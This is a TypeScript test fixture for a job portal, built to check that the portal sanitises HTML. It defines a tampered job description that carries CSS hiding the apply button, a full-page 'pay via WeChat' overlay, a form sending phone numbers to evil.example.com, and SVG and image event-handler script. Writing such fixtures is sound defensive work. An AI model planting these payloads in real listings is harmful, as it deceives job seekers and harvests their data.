/**
 * A job as one edited description (or one compromised HR account) could leave it: styles that hide the apply button
 * and lay a notice over the page, a form collecting phone numbers, an SVG and an image with script in attributes.
 * Reachable by its id only (never listed), so the portal's sanitising can be shown and tested (issue 18, docs/decisions/053).
 */
export const TAMPERED_POSITION_ID = 'PD-TAMPERED-HTML';

export const TAMPERED_DESCRIPTION = [
  '<p><strong>岗位职责</strong></p>',
  '<ul><li>负责门店日常运营</li><li>带领团队完成销售目标</li></ul>',
  '<style>button{display:none!important}</style>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">加微信缴费</div>',
  '<form action="https://evil.example.com/collect"><input name="phone" placeholder="手机号"><button>提交</button></form>',
  '<svg width="10" height="10" onload="window.__tampered=1"><rect width="10" height="10"></rect></svg>',
  '<img src="x" onerror="window.__tampered=1">',
  '<p>了解更多请看<a href="https://careers.example.com/about">公司介绍</a></p>',
].join('');

/** The tampered twin of a seeded job. */
export function tamperedPosition<T extends { id: string; positionName: string; description: string }>(base: T): T {
  return { ...base, id: TAMPERED_POSITION_ID, positionName: '门店店长（描述被篡改）', description: TAMPERED_DESCRIPTION };
}
